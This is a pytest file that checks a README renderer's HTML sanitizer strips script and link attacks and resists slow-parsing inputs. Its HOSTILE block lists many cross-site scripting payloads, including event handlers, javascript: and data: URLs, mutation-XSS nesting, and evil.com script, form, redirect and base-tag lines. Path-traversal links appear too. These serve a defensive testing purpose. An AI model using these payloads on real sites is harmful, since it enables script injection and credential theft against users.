"""P34: a README is shown as it was meant, and can do nothing on our pages."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from types import SimpleNamespace

import pytest

from spaces.web.space import readme

SEEN = SimpleNamespace(to=lambda page, rev, path="": f"/spaces/a/b/{page}/{rev}/{path}")


def shown(text: str, folder: str = "") -> str:
    return str(readme.render(text, readme.Base(SEEN, "main", folder)))  # type: ignore[arg-type]


HOSTILE = """
<script>alert(1)</script>
<ScRiPt src=//evil.com/x.js></sCrIpT>
<img src=x onerror=alert(1)>
<img src="javascript:alert(1)">
<svg onload=alert(1)><script>alert(1)</script></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<iframe src="https://evil.com"></iframe>
<object data=x></object><embed src=x>
<form action="https://evil.com"><input name=password><button formaction=javascript:alert(1)>x</button></form>
<a href="javascript:alert(1)">a</a>
<a href=" jAvAsCrIpT&colon;alert(1)">b</a>
<a href="data:text/html,<script>alert(1)</script>">c</a>
<a href="vbscript:x">d</a>
<a href="//evil.com">e</a>
<a href="/\\evil.com">f</a>
<a href="\\\\evil.com">g</a>
<a href="https://evil.com" target=_top ping=x onclick=alert(1)>h</a>
<base href="https://evil.com">
<meta http-equiv=refresh content="0;url=https://evil.com">
<link rel=stylesheet href=//evil.com/x.css>
<style>body{display:none}</style>
<p style="position:fixed;inset:0" id="act" class="space-page" hx-get="/settings" data-copies="x">p</p>
<div sse-connect="/x" hx-on:click="alert(1)">q</div>
<details ontoggle=alert(1) open>r</details>
<!-- <script>alert(1)</script> -->
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<template><script>alert(1)</script></template>
<textarea><script>alert(1)</script></textarea>
[md](javascript:alert(1)) [md2](data:text/html;base64,PHNjcmlwdD4=) ![x](javascript:alert(1)) ![x](//evil.com/p.png)
<javascript:alert(1)>
<img src=x:x onerror=alert(1)//
`<script>alert(1)</script>`

```html"><script>alert(1)</script>
<script>alert(1)</script>
```

[ref]: javascript:alert(1)
[ref]
"""


class Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def elements(text: str) -> list[tuple[str, dict[str, str | None]]]:
    reader = Reader()
    reader.feed(text)
    return reader.found


ACTIVE = (
    "script style iframe object embed form input button textarea select base meta link svg math template frame".split()
)


def test_p34_nothing_that_acts_is_on_the_list():
    assert not readme.TAGS & set(ACTIVE)
    names = set().union(*readme.ATTRIBUTES.values())
    assert not names & {"style", "srcset", "target", "srcdoc"} and not any(
        name.startswith(("on", "hx-", "data-")) for name in names
    )


def check(text: str) -> None:
    """Only what the list allows is left, and every address is one of ours or somebody's page."""
    for tag, attributes in elements(text):
        assert tag in readme.TAGS, tag
        allowed = readme.ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        assert attributes.keys() <= allowed, (tag, attributes)
        link = attributes.get("href") or ""
        assert not link or link.startswith(("/spaces/a/b/", "#readme-", "https://")), link
        assert (attributes.get("src") or "/spaces/a/b/raw/").startswith("/spaces/a/b/raw/")
        assert (attributes.get("id") or "readme-").startswith("readme-")


def test_p34_nothing_that_could_act_is_left():
    check(shown(HOSTILE))


@pytest.mark.parametrize("line", HOSTILE.splitlines())
def test_p34_the_same_holds_for_every_line_alone(line):
    """In one text some of them hide others."""
    check(shown(line))


def test_links_of_others_lead_away_without_telling_from_where():
    (link,) = [each for tag, each in elements(shown("[x](https://example.org/a?b=1)")) if tag == "a"]
    assert link["href"] == "https://example.org/a?b=1" and "noreferrer" in link["rel"] and "noopener" in link["rel"]


@pytest.mark.parametrize(
    "link, folder, leads",
    [
        ("app.py", "", "/spaces/a/b/blob/main/app.py"),
        ("./x/app.py", "docs", "/spaces/a/b/blob/main/docs/x/app.py"),
        ("../app.py", "docs", "/spaces/a/b/blob/main/app.py"),
        ("/app.py", "docs", "/spaces/a/b/blob/main/app.py"),
        ("docs/", "", "/spaces/a/b/tree/main/docs"),
        ("other.md#Top", "", "/spaces/a/b/blob/main/other.md#readme-top"),
        ("#Usage", "", "#readme-usage"),
        ("../../../login", "docs", None),
        ("%2e%2e/%2e%2e/login", "docs", None),
        ("//evil.com/x", "", None),
    ],
)
def test_links_stay_in_the_repository(link, folder, leads):
    (found,) = [each for tag, each in elements(shown(f'<a href="{link}">x</a>', folder)) if tag == "a"]
    assert found.get("href") == leads


def test_pictures_come_from_the_repository_alone():
    text = shown("![one](pic.png) ![two](https://elsewhere.org/p.png) ![three](data:image/png;base64,AAAA)")
    sources = [each.get("src") for tag, each in elements(text) if tag == "img"]
    assert sources == ["/spaces/a/b/raw/main/pic.png", None, None] and "two" in text


def test_the_card_is_not_part_of_the_text():
    assert shown("---\ntitle: x\n---\n# Hi") == '<h1 id="readme-hi">Hi</h1>'
    assert "title" not in shown("\ufeff---\r\ntitle: x\r\n---\r\ntext")


def test_a_table_of_contents_works():
    text = shown("# Über uns!\n\n# Same\n\n# Same\n")
    assert re.findall(r'id="([^"]*)"', text) == ["readme-über-uns", "readme-same", "readme-same-1"]


def test_code_has_colors_and_tables_are_tables():
    text = shown("```python\nx = 1\n```\n\n| a | b |\n|---|:-:|\n| 1 | 2 |\n")
    assert '<span class="o">=</span>' in text and "<td>1</td>" in text


@pytest.mark.parametrize(
    "evil",
    [
        "[" * 50_000,
        "> " * 20_000,
        "*a_" * 30_000,
        "<div>" * 20_000,
        "<h1>" * 30_000,
        "# a\n" * 20_000,
        "`" * 60_000,
        "![" * 30_000 + "](x)" * 30_000,
    ],
)
def test_p34_a_readme_made_to_be_slow_is_not_waited_for(evil):
    import time

    began = time.process_time()
    shown(evil)
    assert time.process_time() - began < 10
